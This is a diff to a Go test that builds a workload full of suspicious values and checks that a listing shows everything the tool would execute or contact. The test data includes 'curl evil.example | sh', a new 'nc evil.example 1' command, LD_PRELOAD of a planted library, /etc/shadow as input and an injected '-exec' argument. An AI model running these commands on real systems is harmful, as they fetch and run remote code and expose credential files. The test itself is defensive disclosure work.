@@ -19,7 +19,7 @@ func hidden(t *testing.T) Request {
 	return Of(t.TempDir(), trace.Workload{
 		Program: "/bin/true", Args: []string{"two words"}, Dir: "/tmp", Prepare: "curl evil.example | sh",
 		Env: map[string]string{"LD_PRELOAD": "/tmp/evil.so"}, Stdin: "/etc/shadow",
-		Load: &trace.Load{URL: "http://127.0.0.1:80/", Ready: "victim.example:22", Targets: []string{"/a", "http://other.example/"}},
+		Load: &trace.Load{URL: "http://127.0.0.1:80/", Ready: "victim.example:22", Targets: []string{"/a", "http://other.example/"}, Command: "nc evil.example 1"},
 	}, &core.Model{Parameters: []core.Parameter{{Name: "n", How: "-exec=/tmp/evil {value}"}}})
 }
 
@@ -28,7 +28,7 @@ func TestEverythingThatIsExecutedOrContactedIsListed(t *testing.T) {
 	r := hidden(t)
 	all := strings.Join(r.Lines(), "\n")
 	for _, want := range []string{`/bin/true "two words"`, "/tmp", "curl evil.example | sh", "LD_PRELOAD=/tmp/evil.so", "/etc/shadow",
-		"-exec=/tmp/evil {value}", "http://127.0.0.1:80/", "victim.example:22", "http://other.example/"} {
+		"-exec=/tmp/evil {value}", "http://127.0.0.1:80/", "victim.example:22", "http://other.example/", "nc evil.example 1"} {
 		if !strings.Contains(all, want) {
 			t.Errorf("the list lacks %q:\n%s", want, all)
 		}
